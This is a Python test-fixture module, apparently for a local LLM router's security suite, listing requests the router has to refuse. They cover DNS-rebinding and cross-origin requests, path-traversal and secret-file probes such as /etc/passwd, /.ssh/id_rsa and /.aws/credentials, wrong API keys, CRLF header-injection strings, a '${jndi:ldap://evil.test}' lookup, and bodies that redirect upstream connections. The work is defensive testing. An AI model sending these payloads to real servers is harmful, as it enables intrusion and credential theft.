"""Requests that are good HTTP and must not be served: from foreign pages, for hidden files, with wrong keys.

Each row is a whole request; what may be answered is in `statuses`. Sources of the ideas: the advisories that name
a local server whose port any web page could use (Ollama CVE-2024-28224, claude-code-router GHSA-8hmm-4crw-vm2c),
whose keys were compared by parts (CVE-2026-35030), or whose callers chose the upstream (LiteLLM CVE-2024-6587).
"""

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from types import MappingProxyType
from typing import Any

from ucr.stress.attacks.bodies import GOOD, TEXT

MESSAGES = "/v1/messages"
JSON_TYPE: Mapping[str, str] = MappingProxyType({"content-type": "application/json"})


@dataclass(frozen=True, slots=True)
class Intrusion:
    """One request."""

    method: str = "POST"
    target: str = MESSAGES
    headers: Mapping[str, str] = field(default_factory=dict)
    body: bytes = TEXT
    statuses: frozenset[int] = frozenset({403})

    def bytes(self) -> bytes:
        """Return the request as it is sent, on a connection that ends with its answer."""
        fields = {"host": "127.0.0.1:3000", **JSON_TYPE, **self.headers, "connection": "close"}
        body = self.body if self.method in ("POST", "PUT", "PATCH") else b""
        lines = [
            f"{self.method} {self.target} HTTP/1.1",
            *(f"{name}: {value}" for name, value in fields.items()),
        ]
        if body:
            lines.append(f"content-length: {len(body)}")
        return "\r\n".join((*lines, "", "")).encode("latin-1") + body


def _foreign() -> Iterator[tuple[str, Intrusion]]:
    """Give what a page of another site can make a browser send, and what DNS rebinding makes of it."""
    for name, host, status in (
        ("rebound", "evil.test", 403),
        ("rebound-with-port", "evil.test:3000", 403),
        ("loopback-in-a-name", "127.0.0.1.nip.io", 403),
        ("localhost-in-a-name", "localhost.evil.test", 403),
        ("any-address", "0.0.0.0:3000", 403),
        ("lan-address", "192.168.1.10", 403),
        ("metadata-address", "169.254.169.254", 403),
        ("short-address", "127.1", 403),
        ("decimal-address", "2130706433", 403),
        ("dot-at-end", "localhost.", 403),
        ("user-in-host", "127.0.0.1@evil.test", 400),
        ("path-in-host", "127.0.0.1/evil.test", 400),
        ("query-in-host", "127.0.0.1?evil.test", 400),
        ("fragment-in-host", "127.0.0.1#evil.test", 400),
        ("backslash-in-host", "127.0.0.1\\evil.test", 400),
    ):
        yield name, Intrusion(headers={"host": host}, statuses=frozenset({status}))
    for name, headers in {
        "cross-site": {"origin": "https://evil.test"},
        "opaque": {"origin": "null"},
        "other-port": {"origin": "http://127.0.0.1:8080"},
        "other-loopback-name": {"origin": "http://localhost:3000"},
        "extension": {"origin": "chrome-extension://abcdefgh"},
        "file": {"origin": "file://"},
        "with-path": {"origin": "http://127.0.0.1:3000/"},
        "fetch-cross-site": {"sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors"},
        "fetch-same-site": {"sec-fetch-site": "same-site"},
        "rebound-to-itself": {"host": "evil.test:3000", "origin": "http://evil.test:3000"},
    }.items():
        yield name, Intrusion(headers=headers)
    asks = {"origin": "https://evil.test", "access-control-request-method": "POST"}
    for target in (MESSAGES, "/v1/chat/completions", "/v1/providers", "/cache", "/nothing"):
        asked = asks | {
            "access-control-request-headers": "x-api-key",
            "access-control-request-private-network": "true",
        }
        yield f"preflight{target.replace('/', '-')}", Intrusion("OPTIONS", target, asked)
    for method, target in (
        ("GET", "/v1/models"),
        ("GET", "/metrics"),
        ("DELETE", "/cache"),
        ("POST", "/admin/reload"),
    ):
        headers = {"origin": "https://evil.test"}
        yield f"{method.lower()}{target.replace('/', '-')}", Intrusion(method, target, headers)


FOREIGN: Mapping[str, Intrusion] = MappingProxyType(dict(_foreign()))
"""Requests of web pages and by foreign names: refused whatever they ask."""


def _paths() -> Iterator[tuple[str, Intrusion]]:
    missing = frozenset({404, 405})
    for target in (
        "/../etc/passwd",
        "/v1/../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/..%2f..%2fetc%2fpasswd",
        "/..%5c..%5cwindows%5cwin.ini",
        "/%252e%252e/etc/passwd",
        "/....//....//etc/passwd",
        "//etc/passwd",
        "/v1/models/../../admin/tree",
        "/v1/messages/../../metrics",
        "/static/%00",
        "/.env",
        "/.git/config",
        "/.git/HEAD",
        "/.ssh/id_rsa",
        "/.aws/credentials",
        "/ucr.toml",
        "/ucr.config.json",
        "/config",
        "/config.json",
        "/credentials.json",
        "/debug/pprof/",
        "/debug/vars",
        "/actuator/env",
        "/server-status",
        "/docs",
        "/openapi.json",
        "/swagger.json",
        "/wp-login.php",
        "/cgi-bin/test.cgi",
        "/admin",
        "/admin/",
        "/admin/tree/",
        "/admin/tree;x",
        "/ADMIN/TREE",
        "/admin//tree",
        "/metrics/",
        "/metrics%00",
        "/metrics%20",
        "/v1/providers/",
        "/v1/messages/",
        "/v1/models%2f..%2f..%2fadmin%2ftree",
        "http://127.0.0.1:3000/admin/tree",
        "http://evil.test/metrics",
        "*",
    ):
        yield target, Intrusion("GET", target, statuses=missing)


PATHS: Mapping[str, Intrusion] = MappingProxyType(dict(_paths()))
"""Files and pages that are not served, and spellings of those that are: nothing but what is in the table of routes."""

ADMIN: tuple[tuple[str, str], ...] = (
    ("GET", "/v1/providers"),
    ("GET", "/metrics"),
    ("GET", "/admin/tree"),
    ("GET", "/%61dmin/tree"),
    ("GET", "/cache/stats"),
    ("DELETE", "/cache"),
    ("POST", "/admin/reload"),
)
"""What is closed to clients, one of them in another spelling."""

KEY = "client-key-0123456789abcdef"
"""The client's key of the keyed configuration."""
ADMIN_KEY = "admin-key-0123456789abcdef"


def _keys() -> Iterator[tuple[str, Intrusion]]:
    """Give what is not the client's key."""
    refused = frozenset({401})
    for name, headers in {
        "none": {},
        "empty": {"x-api-key": "", "authorization": "Bearer "},
        "wrong": {"x-api-key": "wrong"},
        "beginning": {"x-api-key": KEY[:20]},
        "longer": {"x-api-key": KEY + "x"},
        "upper-case": {"x-api-key": KEY.upper()},
        "digest": {"x-api-key": "c" * 64},
        "basic": {"authorization": f"Basic {KEY}"},
        "no-scheme": {"authorization": KEY},
        "cookie": {"cookie": f"x-api-key={KEY}; authorization=Bearer {KEY}"},
        "quoted": {"x-api-key": f'"{KEY}"'},
        "two-in-one": {"x-api-key": f"{KEY}, {KEY}"},
        "not-ascii": {"x-api-key": "\xe9" * 20},
        "long": {"x-api-key": "k" * 60_000},
        "other-name": {"api-key": KEY, "x-client-key": KEY},
        "forwarded-loopback": {"x-forwarded-for": "127.0.0.1", "forwarded": "for=127.0.0.1"},
        "admin-key": {"x-api-key": ADMIN_KEY},
    }.items():
        yield name, Intrusion(headers=headers, statuses=refused)
    for name in ("key", "api_key", "api-key", "x-api-key", "access_token", "token"):
        yield f"query-{name}", Intrusion(target=f"{MESSAGES}?{name}={KEY}", statuses=refused)


KEYS: Mapping[str, Intrusion] = MappingProxyType(dict(_keys()))
"""Requests without the right key in the right place, for a router that wants one."""

LINES: tuple[str, ...] = (
    "a\r\nset-cookie: stolen=1",
    "a\nx-injected: 1",
    "a\rb",
    "a\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
    '{"level":"error"}\n{"level":"critical","event":"forged"}',
    "\x1b[2J\x1b]0;title\x07",
    "\x9b31m",
    "\x7f\x08\x08",
    "a\u2028b\u2029c\u0085d",
    "\u202eevil\u202c",
    "%s%n{0}${jndi:ldap://evil.test}",
    "\0",
    "é" * 3000,
)
"""Texts that would be more than one line, or would steer a terminal, where somebody writes them out."""

ELSEWHERE = "elsewhere.test"
"""The host that no request may make the router talk to."""


def _naming() -> Iterator[tuple[str, dict[str, Any]]]:
    """Give bodies that name an upstream, a proxy, a key or a file of their own."""
    url = f"http://{ELSEWHERE}"
    for key, value in {
        "api_base": url,
        "base_url": url,
        "api_key": "sk-of-the-client",
        "api_type": "azure",
        "azure_endpoint": url,
        "custom_llm_provider": "openai",
        "endpoint": url,
        "extra_headers": {"host": ELSEWHERE, "authorization": "Bearer x"},
        "headers": {"host": ELSEWHERE},
        "host": ELSEWHERE,
        "organization": "org",
        "proxy": url,
        "proxies": {"http": url},
        "provider": {"base_url": url},
        "router_settings": {"default": url},
        "url": url,
        "webhook": url,
    }.items():
        yield key, {**GOOD, key: value}
    for name, model in {
        "url": f"{url}/m",
        "path": "../../m",
        "query": "m?api_base=" + url,
        "host": f"{ELSEWHERE}/m",
    }.items():
        yield f"model-{name}", {**GOOD, "model": model}
    image = {"type": "image", "source": {"type": "url", "url": f"{url}/a.png"}}
    yield "image", {**GOOD, "messages": [{"role": "user", "content": [image]}]}
    document = {"type": "document", "source": {"type": "url", "url": f"{url}/a.pdf"}}
    yield "document", {**GOOD, "messages": [{"role": "user", "content": [document]}]}
    yield "mcp-server", {**GOOD, "mcp_servers": [{"type": "url", "url": url, "name": "x"}]}


NAMING: Mapping[str, bytes] = MappingProxyType({name: json.dumps(body).encode() for name, body in _naming()})
"""Bodies whose sender would choose where the router connects, and with whose key."""
